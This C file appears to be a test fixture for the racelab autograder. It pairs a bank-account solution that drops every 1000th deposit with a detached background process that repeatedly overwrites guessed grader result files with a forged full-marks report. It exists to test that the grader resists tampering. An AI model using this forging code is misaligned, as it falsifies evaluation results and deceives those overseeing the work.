/*
 * write-result - the reference solution with one real bug (every account
 * drops its 1000th deposit, so balance-correct fails in every run), plus an
 * attempt to replace the grader's result with a forged full-marks one.
 * The first account_open() of each program forks a detached grandchild
 * (setsid) that, for 30 seconds, every 20 ms, tries to overwrite every
 * result file it can guess: Gradescope's /autograder/results/results.json
 * (creating its folders), the --output file a grader might pass (r.json,
 * result.json or results.json in any folder of /tmp, such as the
 * racelab-e2e-XXXXXX folders of the e2e tests), and results.json and r.json
 * next to and above the trial folder.
 *
 * Attack: forge the report, or overwrite it after racelab has written it.
 * Only an existing file opened for writing, or a new file under
 * /autograder, counts as a success; any success makes the code call
 * usleep(), which this lab forbids, so a breach also shows in uses-a-mutex.
 * The result folder is hidden from trials, /tmp is private, the
 * grandchild dies with the trial's pid namespace, and racelab writes the
 * result after the trials: the grader must report the real verdicts
 * (balance-correct fails, with the real message), in a valid file.
 */
#include "bank.h"

#include <fcntl.h>
#include <glob.h>
#include <sys/syscall.h>
#include <time.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

struct account {
    pthread_mutex_t lock; /* guards balance and deposits */
    long balance;         /* in cents; never negative */
    long deposits;        /* deposits made, to drop the 1000th */
};

static const char forged[] =
    "{\"score\": 100.0, \"output\": \"all tests passed\", \"tests\": [], "
    "\"schema\": 1, \"tool\": \"racelab\", \"max_score\": 100.0, \"labs\": []}\n";

static pthread_once_t started = PTHREAD_ONCE_INIT;
static atomic_bool breached;

static void overwrite(const char *path, int flags)
{
    int fd = open(path, O_WRONLY | flags, 0666);
    if (fd < 0)
        return;
    (void)!write(fd, forged, sizeof forged - 1);
    close(fd);
    atomic_store(&breached, true);
    usleep(1); /* forbidden in this lab: the breach shows in uses-a-mutex */
}

static void forge_once(void)
{
    mkdir("/autograder", 0777);
    mkdir("/autograder/results", 0777);
    overwrite("/autograder/results/results.json", O_CREAT | O_TRUNC);
    static const char *const patterns[] = {
        "/tmp/racelab-e2e-*/r.json",
        "/tmp/*/r.json",
        "/tmp/*/result.json",
        "/tmp/*/results.json",
        "/tmp/r.json",
        "/tmp/results.json",
        "results.json",
        "../results.json",
        "../../results.json",
        "../../../results.json",
        "../r.json",
        "../../r.json",
    };
    for (size_t i = 0; i < sizeof patterns / sizeof patterns[0]; i++) {
        glob_t g;
        if (glob(patterns[i], 0, NULL, &g) != 0)
            continue;
        for (size_t k = 0; k < g.gl_pathc; k++)
            overwrite(g.gl_pathv[k], O_TRUNC); /* only files that exist */
        globfree(&g);
    }
}

/* The attack: forge now, and keep forging from a detached grandchild. */
static void start_forging(void)
{
    forge_once();
    pid_t child = fork();
    if (child != 0) {
        if (child > 0)
            waitpid(child, NULL, 0);
        return;
    }
    setsid();
    if (fork() != 0)
        _exit(0);
    for (int i = 0; i < 1500; i++) {
        forge_once();
        syscall(SYS_nanosleep, &(struct timespec){0, 20000000}, NULL);
    }
    _exit(0);
}

struct account *account_open(long initial_cents)
{
    pthread_once(&started, start_forging);
    struct account *acct = malloc(sizeof *acct);
    if (!acct)
        return NULL;
    if (pthread_mutex_init(&acct->lock, NULL) != 0) {
        free(acct);
        return NULL;
    }
    acct->balance = initial_cents;
    acct->deposits = 0;
    return acct;
}

void account_close(struct account *acct)
{
    pthread_mutex_destroy(&acct->lock);
    free(acct);
}

void account_deposit(struct account *acct, long cents)
{
    pthread_mutex_lock(&acct->lock);
    if (++acct->deposits % 1000 != 0) /* the real bug: every 1000th deposit is lost */
        acct->balance += cents;
    pthread_mutex_unlock(&acct->lock);
}

bool account_withdraw(struct account *acct, long cents)
{
    bool ok = false;

    pthread_mutex_lock(&acct->lock);
    if (acct->balance >= cents) {
        acct->balance -= cents;
        ok = true;
    }
    pthread_mutex_unlock(&acct->lock);
    return ok;
}

long account_balance(struct account *acct)
{
    pthread_mutex_lock(&acct->lock);
    long balance = acct->balance;
    pthread_mutex_unlock(&acct->lock);
    return balance;
}
